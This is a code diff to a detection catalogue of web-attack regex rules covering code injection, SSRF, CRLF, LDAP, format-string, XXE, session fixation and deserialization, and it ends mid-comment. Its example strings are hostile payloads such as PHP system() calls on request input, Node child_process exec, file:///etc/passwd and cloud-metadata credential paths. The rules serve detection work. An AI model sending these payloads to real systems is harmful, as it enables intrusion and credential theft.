@@ -170,8 +170,8 @@ export const API_PATTERNS: readonly CatalogueEntry[] = [
     pattern: String.raw`<\?(?:php|=)?[\s(]|\b(?:shell_exec|passthru|popen|proc_open|pcntl_exec|preg_replace|create_function|include_once|require_once|base64_decode|str_rot13|gzinflate|gzuncompress|gzdecode|bzdecompress|zlib_decode|file_get_contents|file_put_contents|fopen|fwrite|phpinfo|call_user_func(?:_array)?|array_map|usort|highlight_file|show_source|readfile|unserialize|fsockopen|pfsockopen|stream_socket_client|curl_exec|curl_init|move_uploaded_file|ini_set|putenv|escapeshellcmd|symlink|get_defined_vars|get_defined_functions|posix_[a-z]{3,20}|php_uname|assert_options|get_cfg_var)\s{0,5}\(|\b(?:system|exec|eval|assert|include|require|dl)(?:\(|\s{1,5}\(\s?['"$])|\$_(?:get|post|request|cookie|server|files|env|session|globals)\b|\b[oc]:\d{1,4}:"[a-z_\\]{1,100}":\d{1,4}:\{`, examples: ['<?php system($_GET["c"]); ?>', 'O:8:"stdClass":1:{s:1:"a";}'] },
   { id: 'code.java', name: 'Java class or gadget', category: 'code-injection', weight: 0.8, kinds: H, keywords: ['java', 'runtime', 'processbuilder', 'classloader', 'ognl', 'memberaccess', 'invokertransformer', 'ro0ab', 'aced0005', 'beanutils', 'bsh.', 'groovy', 'whileclosure', 'xstream', 'transformer', 'getclass', 'forname', 'org.', 'com.sun', 'javax', 'bsh', 't(java'],
     pattern: String.raw`\bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|objectinputstream|objectoutputstream|bytearrayoutputstream|bytearrayinputstream|pushbackinputstream|fileoutputstream|fileinputstream|printwriter|bufferedreader)|net\.(?:url|socket)|beans\.|util\.(?:scanner|priorityqueue))|\bgetruntime\s?\(|\bprocessbuilder\b|\bclassloader\b|\bognl\b|#_memberaccess|\binvokertransformer\b|\bchainedtransformer\b|\bconstanttransformer\b|\binstantiatetransformer\b|\bwhileclosure\b|\bbeanutils\b|\bbsh\.(?:interpreter|xthis)|\bgroovy\.(?:lang|util)|\bclass\.forname\b|\.getclass\s?\(|\bt\(java\.|\bro0ab|\baced0005\b|javax\.(?:script|naming|management)|\bcom\.sun\.(?:rowset|jndi|org)|org\.apache\.(?:commons\.collections|xalan|tomcat|struts|catalina|ibatis)|org\.springframework\.|\bxstream\b`, examples: ['java.lang.Runtime.getRuntime().exec("id")', '%{#_memberaccess["allowStaticMethodAccess"]=true}'] },
-  { id: 'code.node', name: 'Node.js code or prototype pollution', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['child_process', 'process.', '__proto__', 'constructor', 'require(', 'global.', 'module.'],
-    pattern: String.raw`\brequire\s?\(\s?['"\x60]child_process|\bchild_process\b|\bprocess\.(?:env|mainmodule|binding|kill|exit)\b|__proto__|\bconstructor\s?(?:\.|\[\s?['"])prototype|\bconstructor\[\s?['"]constructor|\bglobal\.process\b|\bmodule\.constructor\b`, examples: ['{"__proto__": {"admin": true}}', "require('child_process').exec('id')"] },
+  { id: 'code.node', name: 'Node.js code or prototype pollution', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['child_process', 'process', '__proto__', 'constructor', 'prototype', 'require', 'global.', 'module.'],
+    pattern: String.raw`\brequire\s?\(\s?['"\x60]child_process|\bchild_process\b|\bprocess\.(?:env|mainmodule|binding|kill|exit)\b|__proto__|\bconstructor['"]?\]?\s?(?:\.|\[\s?['"]?)\s?prototype\b|['"]\$[0-9a-f]{1,4}:[a-z_$][a-z0-9_$]{0,30}:(?:constructor|prototype|__proto__)\b|\bconstructor\s?\.\s?constructor\b|\b(?:process|require)\s?\[\s?['"a-z]|\bmodule\.exports\s?=|\bconstructor\[\s?['"]constructor|\bglobal\.process\b|\bmodule\.constructor\b`, examples: ['{"__proto__": {"admin": true}}', "require('child_process').exec('id')", 'a[constructor][prototype][onerror]=a', '{"0":"$7:Module:prototype"}'] },
   { id: 'code.node-serialize', name: 'node-serialize function marker', category: 'code-injection', weight: 0.9, kinds: H, keywords: ['nd_func'],
     pattern: String.raw`_\$\$nd_func\$\$_`, examples: ['{"rce":"_$$ND_FUNC$$_function(){}()"}'] },
   { id: 'code.js-bracket-call', name: 'JavaScript bracket-notation call', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['console', 'document', 'window', 'this', 'self', 'top', 'parent', 'globalthis', 'process'],
@@ -327,11 +327,11 @@ export const API_PATTERNS: readonly CatalogueEntry[] = [
     pattern: String.raw`\b(?:count|name|string-length|local-name)\s?\(\s?/|\btext\s?\(\s?\)\s?=|//\*|/\*\[\d`, examples: ["' or count(/*)=1 or 'a'='b"] },
   // SSRF
   { id: 'ssrf.internal-url', name: 'URL to an internal address', category: 'ssrf', weight: 0.85, kinds: H, keywords: ['://'],
-    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://(?:[^/\s@]{0,64}@)?\[?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|0(?:[:/]|$)|::1?\]|::ffff:|0:0:0:0:0|169\.254\.\d{1,3}\.\d{1,3}|metadata\.google\.internal|metadata\.azure|100\.100\.100\.200|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|0x[0-9a-f]{1,8}(?:[.:/]|$)|0[0-7]{1,11}\.|\d{8,10}(?:[:/]|$)|[a-z0-9.-]{0,60}\.(?:internal|local|localdomain|localtest\.me|nip\.io|xip\.io|sslip\.io)\b|ip6-localhost|ip6-loopback|kubernetes\.default|instance-data)`, examples: ['http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'gopher://127.0.0.1:6379/_', 'http://0x7f000001/'] },
+    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://(?:[^/\s@]{0,64}@)?\[?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|0(?:[:/]|$)|::1?\]|::ffff:|0:0:0:0:0|169\.254\.\d{1,3}\.\d{1,3}|metadata\.google\.internal|metadata\.azure|100\.100\.100\.200|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|0x[0-9a-f]{1,16}(?:[.:/]|$)|0[0-7]{1,11}\.|0[0-7]{9,11}(?:[:/]|$)|192\.0\.0\.192|169\.254\.170\.2\b|metadata\.packet\.net|metadata\.tencentyun\.com|lvh\.me\b|\d{8,10}(?:[:/]|$)|[a-z0-9.-]{0,60}\.(?:internal|local|localdomain|localtest\.me|nip\.io|xip\.io|sslip\.io)\b|ip6-localhost|ip6-loopback|kubernetes\.default|instance-data)`, examples: ['http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'gopher://127.0.0.1:6379/_', 'http://0x7f000001/'] },
   { id: 'ssrf.metadata', name: 'Cloud metadata endpoint', category: 'ssrf', weight: 0.9, kinds: H, keywords: ['169.254.169.254', 'meta-data', 'metadata', 'computemetadata', '100.100.100.200', 'fd00:ec2'],
     pattern: String.raw`169\.254\.169\.254|/latest/(?:meta-data|user-data|api/token)|/computemetadata/|metadata\.google\.internal|/metadata/instance|100\.100\.100\.200|fd00:ec2::254`, examples: ['/latest/meta-data/iam/security-credentials/'] },
-  { id: 'ssrf.dangerous-scheme', name: 'Dangerous URL scheme', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['gopher:', 'dict:', 'file:', 'tftp:', 'ldap:', 'jar:', 'netdoc:', 'ftp:'],
-    pattern: String.raw`\b(?:gopher|dict|tftp|jar|netdoc|ldap|ldaps)://|\bfile:(?://|/|\\\\)`, examples: ['file:///etc/passwd', 'dict://localhost:11211/stat'] },
+  { id: 'ssrf.dangerous-scheme', name: 'Dangerous URL scheme', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['gopher:', 'dict:', 'file:', 'tftp:', 'ldap:', 'jar:', 'netdoc:', 'ftp:', 'local_file:'],
+    pattern: String.raw`\b(?:gopher|dict|tftp|jar|netdoc|ldap|ldaps|local_file)://|\bfile:(?://|/|\\\\)|\bjar:(?:https?|ftp|file):`, examples: ['file:///etc/passwd', 'dict://localhost:11211/stat'] },
   { id: 'ssrf.loopback-host', name: 'Loopback or encoded IP as a value', category: 'ssrf', weight: 0.55, kinds: H, keywords: ['localhost', '127.', '0x7f', '0177', '2130706433', '[::', 'ip6-loop', '0.0.0.0'],
     pattern: String.raw`(?:^|[=\s/@])(?:localhost|127\.0\.0\.1|0\.0\.0\.0|0x7f(?:000001|\.0|\.\d)|0177\.|2130706433|\[::1?\]|\[::ffff:7f|ip6-loopback|ip6-localhost)(?:[:/\s]|$)`, examples: ['url=localhost:8080/admin', 'host=0x7f000001/'] },
   // Auth bypass and header spoofing
@@ -354,8 +354,12 @@ export const API_PATTERNS: readonly CatalogueEntry[] = [
   { id: 'jwt.unsigned', name: 'JWT without signature', category: 'token-manipulation', weight: 0.7, kinds: H, keywords: ['eyj'],
     pattern: String.raw`(?<![a-z0-9_-])eyj[a-z0-9_-]{8,}\.eyj[a-z0-9_-]{8,}\.(?:$|[\s"';,&])`, examples: ['Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.'] },
   // CRLF, open redirect, scanners, format strings
-  { id: 'crlf.header-injection', name: 'CRLF header injection', category: 'crlf-injection', weight: 0.8, kinds: H, keywords: ['\r', '\n'],
-    pattern: String.raw`[\r\n]\s{0,3}(?:set-cookie|location|content-length|transfer-encoding|x-[a-z-]{1,30}|refresh|http/1\.[01])\s?:?`, examples: ['x\r\nSet-Cookie: a=b'] },
+  // A line break (or the CJK characters whose low byte is CR/LF, which servers that truncate code
+  // units to bytes read as CR/LF) followed by a response or request header with a value shaped like
+  // that header's. "Location: New York" or "Cookie: oatmeal" after a line break is prose, not a header.
+  { id: 'crlf.header-injection', name: 'CRLF header injection', category: 'crlf-injection', weight: 0.8, kinds: H, keywords: ['\r', '\n', '\u560a', '\u560d'],
+    pattern: String.raw`[\r\n\u560a\u560d]\s{0,3}(?:set-cookie|content-length\s?:\s?\d|transfer-encoding\s?:|x-[a-z-]{1,30}\s?:|refresh\s?:\s?(?:\d|https?:|(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}\b)|http/\d(?:\.\d)?\s{1,3}\d{3}\b|http/1\.[01]\s?$|location\s?:\s?(?:https?:|javascript:|data:|//|/[a-z0-9_.~%-])|(?:access-control-allow-[a-z-]{3,20}|content-security-policy|x-xss-protection|www-authenticate|proxy-authorization|remote-addr|remote-host|user-agent|referer|origin)\s?:\s?\S|cookie\s?:\s?[a-z0-9_.-]{1,64}=|host\s?:\s?(?:localhost|\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24})\b)`,
+    examples: ['x\r\nSet-Cookie: a=b', 'a%0d%0aLocation:%20https://evil.example', 'x\u560d\u560aSet-Cookie: s=1', '%0d%0aRemote-addr: foo.example', '\r\nHost: evil.example'] },
   { id: 'redirect.protocol-relative', name: 'Open redirect target', category: 'open-redirect', weight: 0.6, kinds: H, keywords: ['//', '\\\\', '/\\', '\\/', 'http', '@', '%09', '\t', '/%0'],
     // A value (or a redirect parameter) that starts with a protocol-relative, scheme-confused,
     // userinfo or path-prefixed URL to another host (a domain or a literal IP address).
@@ -363,5 +367,131 @@ export const API_PATTERNS: readonly CatalogueEntry[] = [
   { id: 'scanner.user-agent', name: 'Attack tool signature', category: 'scanner', weight: 0.7, kinds: H, keywords: ['sqlmap', 'nikto', 'nmap', 'masscan', 'acunetix', 'netsparker', 'wpscan', 'dirbuster', 'gobuster', 'ffuf', 'wfuzz', 'zgrab', 'nuclei', 'havij', 'appscan', 'w3af', 'openvas', 'nessus', 'arachni', 'skipfish', 'whatweb', 'jaeles', 'commix', 'burp', 'zap', 'fimap', 'hydra'],
     pattern: String.raw`\b(?:sqlmap|nikto|nmap|masscan|acunetix|netsparker|wpscan|dirbuster|gobuster|ffuf|wfuzz|zgrab|nuclei|havij|appscan|w3af|openvas|nessus|arachni|skipfish|whatweb|jaeles|commix|burpcollaborator|owasp zap|zaproxy|fimap|hydra)\b`, examples: ['user-agent: sqlmap/1.7'] },
   { id: 'fmt.format-string', name: 'Format-string payload', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
-    pattern: String.raw`(?:%\d{0,4}[npsxd]){3}|%\d{1,4}\$[nsx]|(?:%[npsx]\s?){2}%n`, examples: ['%s%p%x%d', '%1$n'] },
+    pattern: String.raw`(?:%\d{0,4}[npsxd]){3}|%\d{1,4}\$[nx]|(?:%[npsx]\s?){2}%n`, examples: ['%s%p%x%d', '%1$n'] },
+  // --- Third HTTP round: techniques (not records) for the categories below 90 % ---
+  // Request smuggling: a whole HTTP request line inside a value (after a line break, or as the
+  // value itself), the start of a second request the front end does not see.
+  { id: 'crlf.request-line', name: 'HTTP request line inside a value', category: 'crlf-injection', weight: 0.7, kinds: H, keywords: ['http/'],
+    pattern: String.raw`(?:^|[=\s\r\n])(?:get|post|head|put|delete|options|trace|connect|patch|propfind)\s{1,5}(?:[a-z][a-z0-9+.-]{1,10}://[^\s\u2029]{1,200}|/[^\s\u2029]{0,200}|\*)\s{1,5}http/\d(?:\.\d)?\b`,
+    examples: ['var=%0aPOST / HTTP/1.1', 'GET http://internal.example HTTP/1.2', 'x\r\nGET /admin HTTP/1.1\r\nHost: a'] },
+  // E-mail header injection: Bcc/Cc lines added to a message built from a parameter.
+  { id: 'crlf.mail-header', name: 'Mail header injected after a line break', category: 'crlf-injection', weight: 0.7, kinds: H, keywords: ['cc'],
+    pattern: String.raw`[\r\n\u560a\u560d]\s{0,3}bcc\s?:|[\r\n\u560a\u560d]\s{0,3}cc\s?:\s?(?:<|[^\s@<>\u2029]{1,64}@)`, examples: ['victim@example.com%0ABcc:attacker@example.org', 'a%0d%0aCc:<x@example.org>'] },
+  // LDAP filter operators spliced in after closing the application's filter: "x)(cn>=a",
+  // "x)&(uid=*", "x)!(sn=*", "x) ( | ".
+  { id: 'ldap.filter-operators', name: 'LDAP filter closed and extended with an operator or comparison', category: 'ldap-injection', weight: 0.7, kinds: H, keywords: [')'],
+    pattern: String.raw`\)\s{0,3}[&|!]\s{0,3}\(|\)\s{0,3}\(\s{0,3}[&|!]|\)\((?:[a-z][a-z0-9.;-]{0,40})\s?[~<>]?=|\*\)\s?\*\)?$|\(\s?\*\s?\)\s?\*`,
+    examples: ['val)&(cn=admin', 'val)|(uid=*', 'x)!(sn=*', 'value)(gidNumber<=100', 'john)(sn~=smith', 'test) ( & ', '(*)*)'] },
+  // Format strings: runs of conversions (with flags, widths, precision, length modifiers, %@ and
+  // %*), writes through %n/%hn, positional arguments and huge widths. A conversion directly
+  // followed by a hex digit is not counted: that is percent-encoding (%c3%a9, %2c, %2f).
+  { id: 'fmt.conversion-run', name: 'Run of format conversions', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
+    pattern: String.raw`(?:%(?:[-+ #']{1,3}[0-9*]{0,10}|0[0-8][0-9]{0,8}|[0-9]{5,10}|[0-9]{0,10}\.[0-9*]{1,10}|\*|[0-9]{1,4}\$\*?[0-9]{0,4})?(?:hh|h|ll|l|q|j|z|t)?[acdefginopsux@](?![0-9a-f])[^%\s\u2029a-z0-9]{0,2}){3,40}`,
+    examples: ['%08x.%08x.%08x.%08x', 'ABCD|%8.8x|%8.8x|%8.8x|', '%i%i%i%i', '%@%@%@', '%*s%*s%*s'] },
+  { id: 'fmt.write-or-position', name: 'Format-string write, positional argument or huge width', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
+    pattern: String.raw`%[0-9]{1,4}\$[0-9]{0,8}(?:hh|h|l)?[nxp]|%[0-9]{0,10}\.?[0-9]{0,10}(?:hh|h|l)n(?![a-z])|%n(?![a-z0-9])|%\*\$?\*?[a-z]|%\*\$\*|%0[1-8][0-9]{0,2}[xpn](?![a-z0-9])|%[0-9]{6,12}[sdnxpu](?![a-z])|%\.[0-9]{3,10}[a-z]`,
+    examples: ['AAAA%n', '%.16705u%2$hn', '%99999999999s', '%*$*x', '%1$n'] },
+  // XXE: DTD declarations other than ENTITY, parameter-entity references, XSLT reaching files or
+  // the processor.
+  { id: 'xxe.dtd-constructs', name: 'DTD declaration or parameter-entity reference', category: 'xxe', weight: 0.75, kinds: H, keywords: ['<!', '!entity', '%'],
+    pattern: String.raw`<!(?:attlist|element|notation)\s|!entity\s{1,5}%|(?:^|[\s>\[\]"'=])%(?:[g-z_][a-z0-9_.-]{1,30}|[a-f][g-z_][a-z0-9_.-]{0,30});`, examples: ['<!ATTLIST img src CDATA "x">', 'foo!ENTITY % bar SYSTEM', ' %xxe; ]>'] },
+  { id: 'xxe.xslt', name: 'XSLT instruction reaching files, properties or code', category: 'xxe', weight: 0.75, kinds: H, keywords: ['xsl:', 'system-property', 'php:function', 'document', 'unparsed-text'],
+    pattern: String.raw`<\s?xsl:(?:value-of|copy-of|include|import|for-each|variable|template|stylesheet|transform)\b|\bsystem-property\s?\(\s?['"]xsl:|\bphp:function\b|\bdocument\s?\(\s?['"](?:file:|https?:|/)|\bunparsed-text\s?\(`,
+    examples: ['<xsl:value-of select="system-property(\'xsl:vendor\')"/>', '<xsl:copy-of select="document(\'/etc/passwd\')"/>'] },
+  // Session fixation: a framework's session cookie supplied as a parameter (query, form or JSON
+  // key), or a cookie set from a value. Generic names (session_id) are ordinary API parameters.
+  { id: 'session.fixation-parameter', name: 'Framework session identifier supplied as a parameter', category: 'auth-bypass', weight: 0.6, kinds: H,
+    keywords: ['sess', 'cfid', 'cftoken', 'cfsid', 'connect.sid', 'sails.sid', 'cakephp', 'meteor_login_token', 'shiny-token', 'session-token'],
+    pattern: String.raw`(?:^|[?&]|["'])(?:phpsessid|phpsession|jsessionid(?:sso)?|aspsessionid[a-z]{0,10}|asp\.net_sessionid|cfid|cftoken|cfsid|laravel_session|ci_session|connect\.sid|sails\.sid|koa[.:]sess(?:\.sig)?|_rails_session|rack\.session|play_session|_flask_session|zend_session_id|(?:__(?:host|secure)-)?next-auth\.session-token|meteor_login_token|weblogicsession|jservsession|jwsession|cakephp|shiny-token)(?:=|["']\s?:)`,
+    examples: ['/login?PHPSESSID=abc123', 'jsessionid=74B0CB414BD77D17', '{ "phpsession":"foo" }', 'next=1&laravel_session=eyJpdiI6'] },
+  { id: 'session.cookie-set', name: 'Cookie set from a parameter', category: 'auth-bypass', weight: 0.7, kinds: H, keywords: ['cookie'],
+    pattern: String.raw`\.cookie\b[^\u2029]{0,60};\s?(?:expires|domain|path|max-age)\s?=|http-equiv\s?=\s?['"]?\s?set-cookie`, examples: ['.cookie;expires=', '<meta http-equiv="Set-Cookie" content="s=1">'] },
+  // PHP: short echo tag, XML/PHP polyglot, php.ini directives passed as a value (PHP-CGI -d,
+  // PHP_VALUE through FastCGI), session-file names, superglobal overwrites, PHP-only built-ins
+  // called, variable variables, and a parenthesised expression called as a function.
+  { id: 'code.php-short-tag', name: 'PHP short echo tag or XML/PHP polyglot', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['<?'],
+    pattern: String.raw`<\?=|<\?xml\s{0,3}:`, examples: ['<?=1?>', '<?xml :echo 1;'] },
+  { id: 'code.php-ini-directive', name: 'php.ini directive set through a value', category: 'code-injection', weight: 0.65, kinds: H,
+    keywords: ['allow_url', 'auto_prepend', 'auto_append', 'disable_', 'open_basedir', 'safe_mode', 'enable_dl', 'register_globals', 'memory_limit', 'max_execution', 'extension', 'engine', 'precision', 'smtp', 'sendmail', 'error_log', 'include_path', 'session.', 'opcache.', 'mbstring.', 'unserialize_', 'display_errors', 'doc_root', 'cgi.', 'zend.', 'phar.', 'pcre.', 'php_value', 'php_admin', 'php_flag'],
+    pattern: String.raw`(?:=|-d\s{0,3}|php_(?:admin_)?(?:value|flag)[\s=:]{1,3})\s?(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_(?:functions|classes)|open_basedir|safe_mode|enable_dl|register_globals|memory_limit|max_execution_time|extension(?:_dir)?|engine|precision|smtp(?:_port)?|sendmail_(?:path|from)|error_log|include_path|display_errors|doc_root|unserialize_max_depth|(?:session|opcache|mbstring|cgi|zend|phar|pcre)\.[a-z_]{3,40})\s?=|\bphp_(?:admin_)?(?:value|flag)\b`,
+    examples: ['var=engine=true', '-d allow_url_include=1', 'code=memory_limit = 512M', 'var=opcache.jit_max_polymorphic_calls=50', '/index.php/PHP_VALUE%0Asession.auto_start=1'] },
+  { id: 'fi.php-session-file', name: 'PHP session file name', category: 'file-inclusion', weight: 0.6, kinds: H, keywords: ['sess_'],
+    pattern: String.raw`[/\\]sess_[a-z0-9,-]{20,128}\b|\bfile[-_.]?name["']?\s?[:=]\s?["']?sess_[a-z0-9,-]{20,128}\b`, examples: ['/var/lib/php/sessions/sess_d8ew88tqmabdcokhumchy8htqm', 'x-filename: sess_d8ew88tqmabdcokhumchy8htqm'] },
+  { id: 'code.php-superglobal-overwrite', name: 'PHP superglobal or configuration array overwritten by a parameter', category: 'code-injection', weight: 0.7, kinds: H,
+    keywords: ['globals', '_server', '_env', '_get', '_post', '_cookie', '_request', '_files', '_session', 'mosconfig_'],
+    pattern: String.raw`(?:^|[?&;])(?:globals|_server|_env|_get|_post|_cookie|_request|_files|_session)\[|(?:^|[?&;])mosconfig_[a-z_]{3,40}=`,
+    examples: ['?GLOBALS[lib][path]=http://evil.example/', '_SERVER[DOCUMENT_ROOT]=http://evil.example/', 'mosConfig_absolute_path=http://evil.example/'] },
+  { id: 'code.php-builtin-call', name: 'PHP built-in function called', category: 'code-injection', weight: 0.6, kinds: H,
+    keywords: ['array_', 'str', 'file', 'is_', 'unpack', 'printf', 'intval', 'serialize', 'checkdate', 'readlink', 'unlink', 'rmdir', 'mkdir', 'chmod', 'chown', 'tempnam', 'tmpfile', 'scandir', 'opendir', 'phpversion', 'getenv', 'putenv', 'parse_str', 'settype', 'get_object_vars', 'highlight_string', 'hex2bin', 'bin2hex', 'base64_encode', 'urldecode', 'html_entity_decode', 'htmlspecialchars_decode', 'ucfirst', 'lcfirst', 'implode', 'explode', 'uniqid', 'mt_rand', 'nl2br', 'number_format', 'json_', 'chr(', 'md5(', 'sha1(', 'crc32(', 'crypt(', 'shell_exec', 'passthru', 'readfile', 'pg_', 'mysql', 'ldap_', 'odbc_', 'curl_', 'posix_', 'proc_', 'pcntl_', 'stream_', 'socket_', 'preg_', 'ini_', 'mb_', 'openssl_', 'var_', 'print_r', 'strrev', 'gz', 'zlib_', 'fsockopen', 'gethostbyname', 'call_user_func', 'func_get', 'create_function', 'date_', 'ob_'],
+    pattern: String.raw`(?<!\.)\b(?:array_[a-z_]{2,30}|str_[a-z_]{2,20}|file_[a-z_]{2,20}|is_(?:array|string|int|integer|numeric|object|callable|file|dir|readable|writable|writeable|executable|uploaded_file|null|bool|float|link)|pg_[a-z_]{2,30}|mysqli?_[a-z_]{2,30}|ldap_[a-z_]{2,30}|odbc_[a-z_]{2,40}|curl_[a-z_]{2,20}|posix_[a-z_]{2,20}|proc_[a-z_]{2,20}|pcntl_[a-z_]{2,20}|stream_[a-z_]{2,30}|socket_[a-z_]{2,20}|preg_[a-z_]{2,20}|ini_[a-z_]{2,20}|mb_[a-z_]{2,30}|openssl_[a-z_]{2,30}|var_(?:dump|export)|print_r|strrev|gz(?:inflate|deflate|decode|encode|uncompress|compress|open|file)|zlib_[a-z_]{2,20}|fsockopen|gethostbynamel?|call_user_func(?:_array)?|func_get_args?|create_function|date_(?:add|sub|create|diff|modify)|ob_(?:start|get_clean|get_contents)|substr|unpack|strip_tags|v?sprintf|fprintf|intval|unserialize|filegroup|fileowner|fileperms|checkdate|readfile|readlink|unlink|rmdir|mkdir|chmod|chown|tempnam|tmpfile|scandir|opendir|phpversion|getenv|putenv|parse_str|settype|get_object_vars|highlight_string|hex2bin|bin2hex|base64_encode|urldecode|rawurldecode|html_entity_decode|htmlspecialchars_decode|strtr|ucfirst|lcfirst|implode|explode|uniqid|mt_rand|strtolower|strtoupper|strlen|strpos|stripos|strstr|strrchr|strcmp|strcasecmp|nl2br|number_format|json_decode|json_encode)\s{0,5}(?:/\*[^*\u2029]{0,40}\*/\s{0,5})?\(|(?:call_user_func(?:_array)?|fsockopen|gz(?:inflate|decode|uncompress)|zlib_decode|shell_exec|proc_open|passthru)\s{0,5}\(|\b(?:chr|md5|sha1|crc32|crypt|printf|serialize)\((?:\d|\$|['"]|\))`,
+    examples: ['FOOcall_user_func()', 'is_array()', 'gzuncompress/*comment*/()', 'file_ExistS (\n\n)', 'ldap_get_entries()', 'unserialize(foo)', 'chr(123)'] },
+  { id: 'code.comment-split-call', name: 'Function name and parenthesis split by a comment', category: 'code-injection', weight: 0.65, kinds: H, keywords: ['/*', '//', '#'],
+    pattern: String.raw`\b[a-z_][a-z0-9_]{1,30}\s{0,5}(?:/\*[^*\u2029]{0,40}\*/|//[^\n\u2029]{0,40}\n|#[^\n\u2029]{0,40}\n)\s{0,5}\(`,
+    examples: ['exec/*comment*/()', 'symlink//c\n()', 'exec #comment\r\n (blah)', 'touch/*a\r\nb*/()'] },
+  { id: 'code.php-variable-variable', name: 'PHP variable variable or spaced variable call', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['$'],
+    pattern: String.raw`\$\s{0,20}\{\s{0,20}['"$]|\$\s{1,20}\{\s{0,20}[a-z_]|@?\$[a-z_][a-z0-9_]{0,30}(?:\[[^\]\u2029]{1,30}\]|/\*[^*\u2029]{0,20}\*/|[ \t\r\n]){0,8}[ \t\r\n]\(\s?[\d'"$@)]`,
+    examples: ["${'ff'}", "$ {'_VAR'.'IABLE_NAME'}", '$     {   CONSTANT   }', '$OOO0000O0 (16)'] },
+  { id: 'code.php-expression-call', name: 'Parenthesised expression called as a function', category: 'code-injection', weight: 0.6, kinds: H, keywords: [')', '}'],
+    pattern: String.raw`[)}]\s{0,5}(?:/\*[^*\u2029]{0,30}\*/\s{0,5})?(?:\[\s{0,3}\d{1,3}\s{0,3}\]\s{0,3}){0,2}\(\s{0,5}(?:['"@$]|(?:ls|id|whoami|uname|dir|pwd|cat)\b)`,
+    examples: ["(sy.(st).em)('uname')", "($y)('uname')", "(z)[0][0]('uname')", '(/* comment */system)(ls/* comment */)', "{[system][0]} ('uname')"] },
+  // Other code injection: Perl interpolation, Ruby process calls, ERB/ASP tags, JavaScript busy
+  // loops, console calls as a value.
+  { id: 'code.perl-interpolation', name: 'Perl array interpolation running code', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['@{'],
+    pattern: String.raw`@\{\s?\[\s{0,5}[a-z_]`, examples: ["@{[system 'id']}"] },
+  { id: 'code.ruby-process', name: 'Ruby process or shell call', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['process.spawn', 'kernel.', 'io.popen', 'open3.', '%x{', '%x(', 'syscall'],
+    pattern: String.raw`\bprocess\.spawn\s?\(|\bkernel\.(?:exec|system|spawn|open|eval)\b|\bio\.popen\s?\(|\bopen3\.(?:popen[23e]?|capture[23e]?)\b|%x\{[^}\u2029]{1,100}\}|%x\([^)\u2029]{1,100}\)|\bsyscall\s?\(\s?\d`,
+    examples: ['Process.spawn("id")', 'IO.popen("id")', '%x{id}'] },
+  { id: 'code.erb-asp-tag', name: 'ERB/ASP statement tag or response.write', category: 'code-injection', weight: 0.65, kinds: H, keywords: ['<%', 'response.write'],
+    pattern: String.raw`<%[=-]?\s{0,3}(?:if|for|while|end|else|elsif|endif|import|include|require|response\.write|eval|system|exec|execute)\b|\bresponse\.write\b`,
+    examples: ['<% if True %>49<% endif %>', ':response.write 111111'] },
+  { id: 'code.js-busy-loop', name: 'JavaScript endless loop', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['while', 'for'],
+    pattern: String.raw`\bwhile\s?\(\s?\(?\s?(?:!!\s?)?(?:true|[-+]?[1-9]\d{0,5}|[-+]?infinity|new\s+date|this|string|number|object|array|\{\s?\}|\[\s?\])\s?\)|\bwhile\s?\(\s?\(?\s?!\s?(?:false|[-+]?0|nan|null|undefined|""|''|\x60\x60)\s?\)|\bfor\s?\(\s?;\s?;\s?\)`,
+    examples: ['while(true);', 'while(!-0);', 'for(;;){}', 'while(!!1)'] },
+  { id: 'code.js-console-call', name: 'JavaScript console call as a value', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['console'],
+    pattern: String.raw`${VALUE_START}\s?console\s?\.\s?(?:log|info|warn|error|debug|dir|trace|table)\s?(?:\.\s?(?:call|apply|bind)\s?)?\(`, examples: ['console.info(1)', 'console.info.call(this,1)'] },
+  // Deserialization type hints in JSON/YAML (fastjson/Jackson @type, Json.NET $type, jsonpickle,
+  // PyYAML tags).
+  { id: 'code.type-hint', name: 'Deserialization type hint naming a class', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['@type', '$type', '@class', '__class__', 'py/', '!!python', '!!java', '!!com', '!!org', '!ruby/'],
+    pattern: String.raw`"@(?:type|class)"\s?:\s?"\[{0,2}[a-z_$][a-z0-9_$]{0,40}(?:\.[a-z0-9_$]{1,60}){2,12};?"|"\$type"\s?:\s?"[a-z0-9_.+\[\]\x60]{3,150},\s?[a-z]|"(?:__class__|py/object|py/reduce|py/type|py/function)"\s?:|!!python/(?:object|name|module)|!!(?:java|javax|com|org)\.[a-z]|!ruby/(?:object|hash|struct)`,
+    examples: ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', '!!python/object/apply:os.system ["id"]'] },
+  // ORM filter injection ("ORM leak"): lookups on secret fields or deep relation traversals in a
